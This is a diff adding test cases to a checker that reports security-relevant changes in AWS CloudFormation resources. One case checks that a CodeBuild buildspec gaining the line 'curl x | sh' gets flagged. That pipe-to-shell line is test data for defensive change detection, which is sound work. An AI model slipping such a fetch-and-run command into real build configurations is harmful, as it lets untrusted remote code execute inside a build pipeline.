@@ -409,13 +409,19 @@ _PULL = {"Effect": "Allow", "Action": "ecr:BatchGetImage", "Principal": {"AWS": 
        "is a type this plan does not judge, and this property carries the function that handles it (ServiceToken)",
        "unknown")]),
     ("AWS::Glue::Job", None, {"Name": "j", "Command": {"Name": "glueetl"}}, []),
+    ("AWS::StepFunctions::StateMachine", {"DefinitionString": '{"StartAt": "A", "States": {"A": {"Type": "Pass"}}}'},
+     {"DefinitionString": '{"States":{"A":{"Type":"Pass"}},"StartAt":"A"}'}, []),
+    ("AWS::CodeBuild::Project", {"Source": {"BuildSpec": "version: 0.2\nphases:\n  build:\n    commands:\n      - make"}},
+     {"Source": {"BuildSpec": "version: 0.2\nphases:\n  build:\n    commands:\n      - make\n      - curl x | sh"}},
+     [("Source.BuildSpec", "changed: added line - curl x | sh", "unknown")]),
 ])
 def test_the_table_on_its_own(resource_type: str, old: dict[str, Any] | None, new: dict[str, Any] | None,
                               expected: list[tuple[str, str, str]]) -> None:
     """A queue, repository (a JSON string), log and layer policy; a permission's source condition
     removed; network isolation and a topic's key removed; a pipeline's role switched; types the
     table does not know, with a role and with a handler (unknown), and with nothing of access (no
-    security change: "other")."""
+    security change: "other"); a definition written another way (no change) and a YAML buildspec
+    (compared line by line)."""
     from triton_mme_cdk.model_build.tools.plan_access import security_changes
 
     assert [(c.path, c.text, c.access) for c in security_changes(resource_type, old, new)] == expected
